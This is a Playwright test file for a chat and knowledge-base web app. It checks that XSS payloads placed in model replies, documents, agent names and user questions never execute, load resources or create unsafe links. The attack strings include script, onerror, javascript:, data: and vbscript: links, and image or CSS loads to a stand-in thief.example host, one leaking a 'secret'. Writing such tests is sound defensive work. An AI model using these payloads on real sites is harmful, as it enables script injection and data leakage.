import type { Page } from '@playwright/test'
import { expect, test } from './journey.ts'
import { ask, lastAnswer } from './support/desk.ts'

const attacks = [
  '<script>window.robbed = 1</script>',
  '<img src="http://thief.example/pixel.png" onerror="window.robbed = 2">',
  '<a href="javascript:window.robbed = 3">free bikes</a>',
  '<iframe src="javascript:parent.robbed = 4"></iframe>',
  '<svg onload="window.robbed = 5"></svg>',
  '![pixel](http://thief.example/pixel.png?question=secret)',
  '[one](javascript:window.robbed=6)',
  '[two](data:text/html,<script>opener.robbed=7</script>)',
  '[three](vbscript:robbed)',
  '[four](//thief.example/four)',
  '[five]( java\tscript:window.robbed=8 )',
  '<https://thief.example/five>',
  '<style>body { background: url(http://thief.example/style.png) }</style>',
  '<form action="http://thief.example"><input autofocus onfocus="window.robbed = 9"></form>',
].join('\n\n')

test.use({
  journey: { name: 'hostile', models: { thief: `say=Read the rules. [[1]]\n\n${attacks}\n\nThat is all.` } },
  // A policy would hide what the page itself lets through.
  bypassCSP: true,
})

const expectUnharmed = async (page: Page) => {
  expect(await page.evaluate(() => Reflect.get(window, 'robbed'))).toBeUndefined()
  const links = await page.getByRole('link').evaluateAll(all => all.map(each => Reflect.get(each, 'href')))
  expect(links.filter(href => !/^(https?|mailto):/.test(String(href)))).toEqual([])
  await expect(page.locator('img, iframe, object, embed, main form[action], main style')).toHaveCount(0)
}

test('nothing that a model or a document says is run, loaded or led to', async ({ page, shop }) => {
  const documentId = await shop.publishes({
    title: `Rules ${attacks.slice(0, 180)}`,
    text: `# The rules\n\n${attacks}`,
  })
  const { id } = await shop.hires({ name: '<b onclick=1>Loki</b>', model: 'thief', greeting: attacks })

  await page.goto(`/chat?agent=${id}`)
  await expect(page.getByText('window.robbed = 1').first()).toBeVisible()
  await expectUnharmed(page)
  await ask(page, `What are the rules? ${attacks}`)
  const answer = lastAnswer(page)
  await expect(answer).toHaveAttribute('data-state', 'complete')
  await expect(answer).toContainText('That is all.')
  await expectUnharmed(page)
  for (const foreign of await answer.getByRole('link').all()) {
    await expect(foreign).toHaveAttribute('rel', /noopener noreferrer/)
    await expect(foreign).toHaveAttribute('target', '_blank')
  }

  await answer.getByRole('button', { name: /^Source 1/ }).hover()
  await expect(page.getByRole('dialog', { name: 'Source 1' })).toContainText('window.robbed')
  await answer.getByRole('button', { name: 'How this answer came about' }).click()
  await expect(page.getByTestId('trace')).toContainText('What was found')
  await expectUnharmed(page)

  await page.reload()
  await expect(lastAnswer(page)).toContainText('That is all.')
  await expectUnharmed(page)
  await page.goto(`/knowledge?document=${documentId}`)
  await expect(page.getByTestId('document-text')).toContainText('window.robbed')
  await expectUnharmed(page)
})
